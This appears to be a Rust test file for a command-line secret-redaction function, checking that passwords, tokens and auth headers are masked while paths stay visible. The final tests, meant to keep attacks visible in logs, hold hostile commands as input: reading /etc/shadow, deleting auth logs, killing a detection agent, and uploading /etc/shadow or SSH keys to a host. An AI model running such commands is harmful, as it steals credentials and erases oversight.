//! Tests of arguments, whose borders are known.
//! Each secret here is made up.

use super::*;

/// Each line of arguments, and what is shown of it.
fn check_arguments(table: &[(&[&str], &str)]) {
    let wrong: Vec<_> = table
        .iter()
        .map(|(line, expected)| (arguments(line), *expected))
        .filter(|(shown, expected)| shown != expected)
        .collect();
    assert!(wrong.is_empty(), "shown and expected: {wrong:#?}");
}

#[test]
fn a_named_secret_ends_where_its_argument_does() {
    check_arguments(&[
        (
            &["app", "--password=my own hunter2", "x"],
            "app --password=*** x",
        ),
        (
            &["app", "--password=ab&hunter2", "x"],
            "app --password=*** x",
        ),
        (
            &["app", "--password={hunter2}", "x"],
            "app --password=*** x",
        ),
        (&["app", "--token=a\"b'hunter2", "x"], "app --token=*** x"),
        (
            &["env", "PGPASSWORD=p(hunter2", "psql"],
            "env PGPASSWORD=*** psql",
        ),
        (
            &["openssl", "rsa", "-passin", "pass:my hunter2"],
            "openssl rsa -passin pass:***",
        ),
        (
            &["java", "-Djavax.net.ssl.keyStorePassword=a b", "X"],
            "java -Djavax.net.ssl.keyStorePassword=*** X",
        ),
        (&["app", "--password=", "x"], "app --password= x"),
        (
            &["curl", "https://h/?token=abc&page=2"],
            "curl https://h/?token=***&page=2",
        ),
        (
            &["curl", "-d", "{\"password\":\"x\",\"a\":1}"],
            "curl -d {\"password\":\"***\",\"a\":1}",
        ),
        (
            &["sh", "-c", "TOKEN=abc; id; PASSWORD=x id"],
            "sh -c TOKEN=***; id; PASSWORD=*** id",
        ),
        (
            &["bash", "-c", "-o", "posix", "TOKEN=abc; id"],
            "bash -c -o posix TOKEN=***; id",
        ),
    ]);
}

#[test]
fn logins_and_attached_secrets_may_have_spaces() {
    check_arguments(&[
        (&["curl", "-u", "bob:my hunter2", "h"], "curl -u bob:*** h"),
        (&["mysql", "-pmy hunter2", "db"], "mysql -p*** db"),
        (
            &["sshpass", "-p", "my hunter2", "ssh", "h"],
            "sshpass -p *** ssh h",
        ),
        (
            &["sshpass", "-pmy hunter2", "ssh", "h"],
            "sshpass -p*** ssh h",
        ),
    ]);
}

#[test]
fn a_flag_is_known_in_a_cluster_and_with_its_value() {
    check_arguments(&[
        (&["curl", "-ubob:hunter2", "h"], "curl -ubob:*** h"),
        (&["curl", "-su", "bob:hunter2", "h"], "curl -su bob:*** h"),
        (&["curl", "-ouser", "x"], "curl -ouser x"),
        (
            &["curl", "--user=bob:hunter2", "h"],
            "curl --user=bob:*** h",
        ),
        (
            &["smbclient", "-Ubob%hunter2", "//h/c"],
            "smbclient -Ubob%*** //h/c",
        ),
        (
            &["smbclient", "//h/c", "--user=bob%hunter2"],
            "smbclient //h/c --user=bob%***",
        ),
        (
            &["snmpwalk", "-v2c", "-chunter2", "h"],
            "snmpwalk -v2c -c*** h",
        ),
        (&["ldapsearch", "-xw", "hunter2"], "ldapsearch -xw ***"),
        (
            &["zip", "-rP", "hunter2", "x.zip", "d"],
            "zip -rP *** x.zip d",
        ),
        (&["useradd", "-p$6$abc", "bob"], "useradd -p*** bob"),
        (&["mysql", "-uroot", "-hp", "db"], "mysql -uroot -hp db"),
    ]);
}

#[test]
fn all_of_a_header_behind_its_name_is_the_secret() {
    check_arguments(&[
        (
            &["curl", "-H", "Authorization: Splunk hunter2", "h"],
            "curl -H Authorization: Splunk *** h",
        ),
        (
            &["curl", "-H", "Authorization: Odd hunter2", "h"],
            "curl -H Authorization: *** h",
        ),
        (
            &["curl", "-H", "Authorization: SSWS hunter2 x", "h"],
            "curl -H Authorization: SSWS *** h",
        ),
        (
            &["curl", "-H", "Authorization: hunter2", "h"],
            "curl -H Authorization: *** h",
        ),
        (
            &["curl", "-H", "Cookie: lang=en; sid=hunter2", "h"],
            "curl -H Cookie: *** h",
        ),
        (
            &["curl", "-H", "X-Api-Key: my hunter2", "h"],
            "curl -H X-Api-Key: *** h",
        ),
    ]);
}

#[test]
fn names_of_secrets_are_known() {
    for (line, kept) in [
        ("SSHPASS=hunter2", "SSHPASS="),
        ("REDISCLI_AUTH=hunter2", "REDISCLI_AUTH="),
        ("--requirepass hunter2", "--requirepass "),
        ("--masterauth hunter2", "--masterauth "),
        ("--dbpass=hunter2", "--dbpass="),
        ("-storepass hunter2", "-storepass "),
        ("-keypass hunter2", "-keypass "),
        ("AccountKey=hunter2", "AccountKey="),
        ("--authkey hunter2", "--authkey "),
        ("--certificate-key hunter2", "--certificate-key "),
        ("secret_id=hunter2", "secret_id="),
        ("--secret-string hunter2", "--secret-string "),
        ("--_auth=hunter2", "--_auth="),
        ("SECRET_KEY_BASE=hunter2", "SECRET_KEY_BASE="),
        ("PRIVATE_KEY=hunter2", "PRIVATE_KEY="),
        ("--private-key 0xhunter2", "--private-key "),
        (
            "Ocp-Apim-Subscription-Key:hunter2",
            "Ocp-Apim-Subscription-Key:",
        ),
        ("https://h/?sig=hunter2", "https://h/?sig="),
        ("{\"auth\":\"hunter2\"}", "{\"auth\":\""),
        ("UID=sa;PWD=hunter2", "UID=sa;PWD="),
        ("log=admin&pwd=hunter2", "log=admin&pwd="),
        ("{\"pwd\":\"hunter2\"}", "{\"pwd\":\""),
    ] {
        let words: Vec<&str> = line.split(' ').collect();
        let shown = arguments(&[&["app"], &*words].concat());
        let expected = format!("app {kept}{MASK}");
        assert!(shown.starts_with(&expected), "{line}: {shown}");
        let shown = redact_command(&format!("app {line}"));
        assert!(shown.starts_with(&expected), "{line} in a text: {shown}");
    }
}

#[test]
fn names_that_only_sound_like_secrets_and_paths_are_left_alone() {
    for line in [
        "app SSH_ASKPASS=/usr/bin/x SUDO_ASKPASS=x --bypass=all",
        "env PWD=/root OLDPWD=~/x PWD=. PWD=$HOME id",
        "ansible --private-key /root/.ssh/id_rsa --private-key=~/k",
        "Xorg :0 -auth /run/user/1/x",
        "kubectl --client-key=/etc/k.pem --client-key ./k get",
        "wget --cookie=/etc/shadow",
    ] {
        let words: Vec<&str> = line.split(' ').collect();
        assert_eq!(arguments(&words), line);
        assert_eq!(redact_command(line), line);
    }
}

#[test]
fn a_name_with_a_colon_says_nothing_of_the_next_argument() {
    for line in [
        &["cat", "pw:", "/etc/shadow"][..],
        &["rm", "-f", "pw:", "/var/log/auth.log"],
        &["killall", "token:", "hidps-agent"],
        &["grep", "-i", "password:", "/etc/shadow"],
        &["curl", "-H", "Authorization:", "/etc/shadow"],
        &["cat", "pw:/etc/shadow"],
        &["sh", "-c", "cat pw: /etc/shadow"],
        &["sh", "-c", "cat authorization: /etc/shadow"],
    ] {
        assert_eq!(arguments(line), line.join(" "));
        assert_eq!(
            redact_joined(&line.join(" ")).contains("/etc/shadow"),
            line.join(" ").contains("/etc/shadow")
        );
    }
}

#[test]
fn a_file_that_is_sent_is_told() {
    for line in [
        "curl -F passwd=@/etc/shadow h",
        "curl -F password=</etc/shadow h",
        "curl -F token=@~/.ssh/id_rsa h",
        "curl -F cookie=/etc/shadow h",
    ] {
        let words: Vec<&str> = line.split(' ').collect();
        assert_eq!(arguments(&words), line);
    }
}
